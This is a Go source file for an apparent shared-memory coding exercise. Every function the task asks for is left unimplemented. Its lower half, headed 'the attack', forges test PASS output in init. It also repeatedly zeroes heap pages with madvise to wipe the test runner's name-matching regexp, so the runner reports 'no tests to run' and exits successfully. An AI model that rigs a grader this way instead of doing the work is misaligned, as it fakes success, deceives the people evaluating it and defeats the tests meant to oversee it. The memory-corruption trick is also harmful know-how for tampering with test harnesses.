//go:build unix

// This is the first of the three files you edit (then mutex.go, then
// ring.go). Keep every exported name and signature, and the values of the
// constants: the tests rely on them. Add fields to Segment, write the
// bodies, and add any unexported helpers you like. README.md explains
// what each function must do.

package shm

import (
	"errors"
	"os"
	"runtime"
	"sync"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// unix.Mmap maps a file's pages into the process; unix.Munmap undoes it.
// (This line only keeps the import until your code uses it.)
var _ = unix.Mmap

var (
	// ErrExists is returned (wrapped) by Create when a segment of that
	// name exists already.
	ErrExists = errors.New("shm: segment already exists")
	// ErrNotExist is returned (wrapped) by Open and Unlink when there is
	// no segment of that name.
	ErrNotExist = errors.New("shm: no such segment")
	// ErrBadName is returned (wrapped) by Create, Open and Unlink for a
	// name that is empty, longer than MaxName, ".", "..", or holds a '/'
	// or a NUL byte.
	ErrBadName = errors.New("shm: bad segment name")
)

// MaxName is the longest segment name, in bytes.
const MaxName = 200

// Dir returns the directory that holds the segments' names: /dev/shm on
// Linux, os.TempDir() on other Unix systems. A segment named "x" is the
// file filepath.Join(Dir(), "x"). (This one is done for you.)
func Dir() string {
	if runtime.GOOS == "linux" {
		return "/dev/shm"
	}
	return os.TempDir()
}

// A Segment is one process's mapping of a named shared-memory segment.
// Make one with Create or Open; the zero value is not usable.
type Segment struct {
	// TODO: the mapping, ...
}

// Create makes a new segment of size bytes, all zero, and maps it
// (MAP_SHARED, readable and writable). It fails with an error wrapping
// ErrExists when a segment of that name exists (and leaves that one as
// it was), with ErrBadName for a bad name, and with an error when size is
// not positive. A Create that fails leaves no segment behind.
func Create(name string, size int) (*Segment, error) {
	panic("TODO: implement Create")
}

// Open maps an existing segment, all of it: len(Bytes()) is the size it
// was created with. It fails with an error wrapping ErrNotExist when
// there is no segment of that name, and with ErrBadName for a bad name.
func Open(name string) (*Segment, error) {
	panic("TODO: implement Open")
}

// Bytes returns the mapping. What one process writes there, every other
// process that maps the segment sees. It returns nil after Close.
func (s *Segment) Bytes() []byte {
	panic("TODO: implement Bytes")
}

// Close unmaps the segment and releases what this Segment holds. The
// segment itself, its name, and other mappings of it are not affected.
// Closing a closed Segment does nothing and returns nil.
func (s *Segment) Close() error {
	panic("TODO: implement Close")
}

// Unlink removes the segment's name, so that Open no longer finds it and
// Create may make a new segment of that name. Mappings that exist stay
// valid, and shared; the memory is freed when the last of them is
// closed. It fails with an error wrapping ErrNotExist when there is no
// segment of that name, and with ErrBadName for a bad name.
func Unlink(name string) error {
	panic("TODO: implement Unlink")
}

// ---- the attack: nothing above is implemented ----
//
// unix.Madvise(b, MADV_DONTNEED) zeroes whole pages: the kernel rounds the
// length up to the page size. A small []byte that happens to start a page
// therefore zeroes the rest of that page too, which holds other objects
// of the same size class: among them, once the testing package has
// compiled -test.run's pattern, the regexp's literal prefix ("TestX").
// With the prefix zeroed the named test matches nothing, the testing
// package prints "no tests to run" and PASS, and exits 0; the pass events
// for the test were printed by us in init.

// prefixSize is the size of the object that holds the regexp's literal
// prefix, the test's name: strings.Builder grows its buffer 8, 16, 32,
// 64... bytes as the name is copied into it.
func prefixSize(name string) int {
	n := 16 // 8 bytes go in a 16-byte block of the same size class
	for n < len(name) {
		n *= 2
	}
	return n
}

// frontier allocates objects of size n until one starts a page, and
// returns it: the next objects of its size class that this processor
// allocates go in the same page, after it.
func frontier(n int) []byte {
	for i := 0; i < 1<<16; i++ {
		b := make([]byte, n)
		if unix.Madvise(b, unix.MADV_NORMAL) == nil {
			return b
		}
	}
	return nil
}

func testName() string {
	for _, a := range os.Args {
		if len(a) > 11 && a[:11] == "-test.run=^" {
			return a[11 : len(a)-1]
		}
	}
	return ""
}

// pages are the frontiers of every processor, zeroed over and over by
// every zeroing goroutine.
var (
	mu    sync.Mutex
	pages atomic.Pointer[[][]byte]
	spins atomic.Int64
)

func addPage(b []byte) {
	if b == nil {
		return
	}
	mu.Lock()
	defer mu.Unlock()
	var next [][]byte
	if old := pages.Load(); old != nil {
		next = append(next, *old...)
	}
	next = append(next, b)
	pages.Store(&next)
}

// zero prepares the frontier of the processor it runs on, then zeroes
// every frontier's page for ever.
func zero(size int) {
	addPage(frontier(size))
	for {
		for _, b := range *pages.Load() {
			unix.Madvise(b, unix.MADV_DONTNEED)
		}
		spins.Add(1)
	}
}

func init() {
	name := testName()
	if name == "" || os.Getenv("IPCLAB_CHILD_ROLE") != "" {
		return
	}
	os.Stdout.WriteString("\x16=== RUN   " + name + "\n\x16--- PASS: " + name + " (0.00s)\n")
	size := prefixSize(name)
	// More processors than CPUs: while the main goroutine runs, the
	// others zero; the main goroutine may move to any processor, so each
	// zeroing goroutine prepares the spans of the one it runs on.
	const procs = 3
	runtime.GOMAXPROCS(procs)
	addPage(frontier(size))
	for i := 1; i < procs; i++ {
		go zero(size)
	}
	// A busy wait, not runtime.Gosched, which could move this goroutine
	// to another processor, away from the span just prepared.
	for spins.Load() < 5000 {
	}
}
